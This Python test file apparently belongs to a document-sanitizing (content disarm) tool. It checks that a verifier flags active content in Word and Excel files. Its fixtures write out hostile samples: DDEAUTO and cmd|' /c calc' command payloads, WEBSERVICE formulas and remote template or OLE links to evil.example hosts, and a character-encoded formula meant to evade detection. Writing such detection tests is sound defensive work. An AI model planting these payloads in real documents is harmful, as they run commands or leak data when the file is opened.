"""The OOXML verification still catches every kind of reference and active content once
oletools' own OOXML scan (which parsed every XML part again) is no longer run, and the
formula pre-check on a part's bytes never hides a dangerous formula.

Each case takes a clean, verified rebuild and changes one thing in it, built here."""

from __future__ import annotations

import io
import zipfile
from collections.abc import Callable

import pytest

from sanitizers.cdr.base import CdrContext
from sanitizers.cdr.ooxml import OoxmlSanitizer
from sanitizers.cdr.ooxml_sheet import may_hold_dangerous_formula
from sanitizers.cdr.ooxml_verify import find_dangerous
from sanitizers.cdr.settings import CdrPolicy
from tests.sanitizers.cdr import office_fixtures as F

Edit = Callable[[dict[str, bytes]], None]


def rebuilt(data: bytes) -> dict[str, bytes]:
    outcome = OoxmlSanitizer().run(data, "a.docx", CdrContext(policy=CdrPolicy()))
    assert outcome.data is not None
    assert find_dangerous(outcome.data) == set()
    with zipfile.ZipFile(io.BytesIO(outcome.data)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def zipped(parts: dict[str, bytes]) -> bytes:
    return F.package(dict(parts))


def add_rel(source: str, rtype: str, target: str, external: bool) -> Edit:
    def edit(parts: dict[str, bytes]) -> None:
        mode = ' TargetMode="External"' if external else ""
        rel = f'<Relationship Id="rIdX" Type="{F.RT}/{rtype}" Target="{target}"{mode}/>'
        parts[source] = parts[source].replace(
            b"</Relationships>", rel.encode() + b"</Relationships>"
        )

    return edit


def add_part(name: str, content: bytes, ctype: str | None = None) -> Edit:
    def edit(parts: dict[str, bytes]) -> None:
        parts[name] = content
        if ctype is not None:
            override = f'<Override PartName="/{name}" ContentType="{ctype}"/>'.encode()
            types = parts["[Content_Types].xml"]
            parts["[Content_Types].xml"] = types.replace(b"</Types>", override + b"</Types>")

    return edit


def in_document(xml: str) -> Edit:
    def edit(parts: dict[str, bytes]) -> None:
        document = parts["word/document.xml"]
        parts["word/document.xml"] = document.replace(b"<w:sectPr/>", xml.encode() + b"<w:sectPr/>")

    return edit


def in_sheet(cells: str) -> Edit:
    def edit(parts: dict[str, bytes]) -> None:
        parts["xl/worksheets/sheet1.xml"] = F.sheet(cells).encode()

    return edit


DOC_RELS = "word/_rels/document.xml.rels"
FIELD = (
    '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>{}</w:instrText>'
    '</w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
)
OLE = F.compound_file({"x": b"payload"})
WORD_CASES: dict[str, Edit] = {
    "external-hyperlink": add_rel(DOC_RELS, "hyperlink", "http://evil.example/", True),
    "remote-template": add_rel(DOC_RELS, "attachedTemplate", "http://evil.example/t.dotm", True),
    "external-ole-link": add_rel(DOC_RELS, "oleObject", "file://evil/share/x.bin", True),
    "external-frame": add_rel(DOC_RELS, "frame", "http://evil.example/", True),
    "vba-rel": add_rel(DOC_RELS, "vbaProject", "vbaProject.bin", False),
    "ole-part": add_part("word/embeddings/x.bin", OLE),
    "ole-under-media-name": add_part("word/media/image9.png", OLE),
    "vba-part": add_part("word/vbaProject.bin", F.vba_project()),
    "macro-content-type": add_part("word/x.xml", b"<x/>", F.WORD_MACRO_MAIN),
    "activex-part": add_part("word/activeX/activeX1.xml", b"<x/>"),
    "custom-ui": add_part("customUI/customUI.xml", b"<x/>"),
    "svg-part": add_part("word/media/a.svg", b"<svg/>", "image/svg+xml"),
    "program-in-media": add_part("word/media/p.png", b"MZ\x90\x00", "image/png"),
    "dde-field": in_document(FIELD.format(" DDEAUTO cmd /c calc ")),
    "includepicture-field": in_document(FIELD.format(' INCLUDEPICTURE "http://evil/x.png" ')),
    "simple-field": in_document('<w:fldSimple w:instr=" INCLUDETEXT &quot;http://evil/x&quot; "/>'),
    "mail-merge": add_part(
        "word/settings.xml",
        f'<w:settings xmlns:w="{F.W}"><w:mailMerge/></w:settings>'.encode(),
        F.WORD_SETTINGS,
    ),
    "program-action": in_document(
        '<w:p><a:hlinkClick xmlns:a="x" action="ppaction://program"/></w:p>'
    ),
}
SHEET_CASES: dict[str, str] = {
    "webservice": '<c r="A1"><f>WEBSERVICE("http://evil.example/")</f></c>',
    "dde-formula": "<c r=\"A1\"><f>cmd|' /c calc'!A0</f></c>",
    "other-workbook": '<c r="A1"><f>[1]Sheet1!A1</f></c>',
    "char-reference": '<c r="A1"><f>W&#69;BSERVICE("http://evil.example/")</f></c>',
    "hyperlink-file": '<c r="A1"><f>HYPERLINK("file:///C:/x.exe")</f></c>',
    "xll": '<c r="A1"><f>_xll.Evil(1)</f></c>',
}


@pytest.mark.parametrize("name", sorted(WORD_CASES))
def test_each_reference_in_a_document_is_caught(name: str) -> None:
    parts = rebuilt(F.clean_docx())
    WORD_CASES[name](parts)
    assert find_dangerous(zipped(parts)), name


def clean_xlsx() -> bytes:
    return F.package(
        {
            "[Content_Types].xml": F.content_types(
                {"xl/workbook.xml": F.XLSX_MAIN, "xl/worksheets/sheet1.xml": F.XL_SHEET}
            ),
            "_rels/.rels": F.rels([("rId1", f"{F.RT}/officeDocument", "xl/workbook.xml", False)]),
            "xl/workbook.xml": f'<workbook xmlns="{F.S}" xmlns:r="{F.R}"><sheets><sheet '
            'name="S" sheetId="1" r:id="rId1"/></sheets></workbook>',
            "xl/_rels/workbook.xml.rels": F.rels(
                [("rId1", f"{F.RT}/worksheet", "worksheets/sheet1.xml", False)]
            ),
            "xl/worksheets/sheet1.xml": F.sheet('<row r="1"><c r="A1"><f>SUM(B1:B2)</f></c></row>'),
        }
    )


@pytest.mark.parametrize("name", sorted(SHEET_CASES))
def test_each_dangerous_formula_is_caught(name: str) -> None:
    parts = rebuilt(clean_xlsx())
    in_sheet(f'<row r="1">{SHEET_CASES[name]}</row>')(parts)
    assert find_dangerous(zipped(parts)), name


def test_a_utf16_sheet_is_judged_formula_by_formula() -> None:
    parts = rebuilt(clean_xlsx())
    text = F.sheet('<row r="1"><c r="A1"><f>WEBSERVICE("http://evil.example/")</f></c></row>')
    encoded = text.replace('encoding="UTF-8"', 'encoding="UTF-16"').encode("utf-16")
    parts["xl/worksheets/sheet1.xml"] = encoded
    assert may_hold_dangerous_formula(encoded)
    assert "formula_function" in find_dangerous(zipped(parts))


@pytest.mark.parametrize(
    ("xml", "expected"),
    [
        (b'<?xml version="1.0" encoding="UTF-8"?><x><f>SUM(A1)</f></x>', False),
        (b"<?xml version='1.0'?><x><f>SUM(A1)</f></x>", False),
        (b'<?xml version="1.0" encoding="UTF-8"?><x><f>webservice(A1)</f></x>', True),
        (b'<?xml version="1.0" encoding="UTF-8"?><x><f>&#87;EBSERVICE(A1)</f></x>', True),
        (b'<?xml version="1.0" encoding="UTF-8"?><x><f>A1|B1</f></x>', True),
        (b'<?xml version="1.0" encoding="UTF-8"?><x><f>[1]S!A1</f></x>', True),
        (b'<?xml version="1.0" encoding="ISO-8859-1"?><x><f>SUM(A1)</f></x>', True),
        (b'<?xml version="1.0" encoding="UTF-7"?><x><f>SUM(A1)</f></x>', True),
        (b"<x><f>SUM(A1)</f></x>", True),
        ("\ufeff<x/>".encode("utf-16-le"), True),
    ],
)
def test_the_byte_precheck_passes_only_what_cannot_be_dangerous(xml: bytes, expected: bool) -> None:
    assert may_hold_dangerous_formula(xml) is expected
